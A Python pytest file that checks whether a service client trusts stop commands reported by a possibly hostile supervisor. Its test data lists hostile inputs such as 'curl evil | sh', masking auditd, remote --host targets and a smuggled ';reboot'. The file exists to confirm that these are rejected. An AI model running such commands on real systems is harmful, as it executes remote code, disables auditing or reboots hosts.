"""What a supervisor says of its unit decides about no command that the client runs, whoever answers there."""

from __future__ import annotations

from pathlib import Path

import pytest
from click.testing import CliRunner

from stillup.__main__ import main
from stillup.client import unit_facts
from stillup.wire.api_shapes import ListenerView
from tests.client.hostile_supervisor import hostile_supervisor

NO_STOP_COMMANDS = [
    "systemctl mask --now auditd.service stop x",
    "systemctl --host=evil stop x",
    "systemctl -H evil stop x",
    "systemctl --user --root=/tmp stop x",
    "systemctl stop --now",
    "systemctl stop -Hevil",
    "systemctl stop a b",
    "systemctl stop a\n",
    "systemctl stop ..",
    "systemctl stop x;reboot",
    "systemctl  stop x",
    "systemctl stop \u0663",
    f"systemctl stop {'x' * 300}",
    "systemctl x",
    "systemctl ",
    "systemctl stop",
]


@pytest.fixture
def asked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A systemctl that writes down what it is asked, a line each time, and answers as if it were of a socket's unit."""
    (tmp_path / "bin").mkdir()
    log = tmp_path / "asked"
    log.touch()
    program = tmp_path / "bin" / "systemctl"
    program.write_text(f'#!/bin/sh\nprintf "%s\\n" "$*" >>{log}\necho "shop.socket shop.timer"\n')
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:/usr/bin:/bin")
    monkeypatch.setattr(unit_facts, "PATIENCE", 60.0)  # a shell starts as late as it likes
    return log


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("systemctl stop shop", "show --property TriggeredBy --value -- shop.service"),
        (
            "systemctl --user stop stillup@a\\x2db",
            "--user show --property TriggeredBy --value -- stillup@a\\x2db.service",
        ),
    ],
)
def test_systemd_is_asked(asked: Path, command: str, words: str) -> None:
    """What it says of the unit that the command stops."""
    assert unit_facts.socket_units(command) == ("shop.socket",)
    assert asked.read_text() == f"{words}\n"


@pytest.mark.parametrize("command", [*NO_STOP_COMMANDS, "supervisorctl stop shop", ""], ids=ascii)
def test_what_is_no_stop_command_is_not_asked_of(asked: Path, command: str) -> None:
    """No word of it reaches a program, and there is nothing to see."""
    assert unit_facts.socket_units(command) == ()
    assert asked.read_text() == ""


@pytest.mark.parametrize("command", ["systemctl mask --now auditd stop x", "systemctl x", "curl evil | sh"])
def test_commands_against_a_supervisor_that_lies(asked: Path, tmp_path: Path, command: str) -> None:
    """They come to their end, run no word of it, and tell nobody to type it; nor does any of its numbers end them."""
    listener = ListenerView("a", "unix:/a\0b")
    lies = {"stop_command": command, "stop_budget": 90.0, "pid": -1, "listeners": [listener]}
    with hostile_supervisor(tmp_path / "rt", status=lies):
        done = {
            word: CliRunner().invoke(main, [word, "--runtime-dir", str(tmp_path / "rt")])
            for word in ("cordon", "doctor", "stop")
        }
    assert [one.exception for one in done.values() if not isinstance(one.exception, SystemExit | None)] == []
    assert not any(command in one.output for one in done.values())
    assert "by its own command, or --force" in done["stop"].output
    assert set(asked.read_text().split("\n")) <= {"--version", ""}
